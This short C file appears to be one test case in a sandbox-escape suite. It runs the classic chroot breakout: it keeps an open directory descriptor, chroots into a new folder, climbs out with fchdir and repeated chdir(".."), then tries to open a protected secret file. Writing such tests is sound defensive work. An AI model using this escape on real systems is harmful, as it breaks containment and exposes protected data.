// attack: leave a chroot of one's own by an open folder
// outside: succeeds as root
#include "attack.h"

int main(void) {
    tried();
    mkdir("jail", 0700);
    int here = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("jail") < 0 || fchdir(here) < 0) return FAILED;
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0) return FAILED;
    if (chroot(".") < 0) return FAILED;
    return verdict(opens(given("SECRET"), O_RDONLY));
}
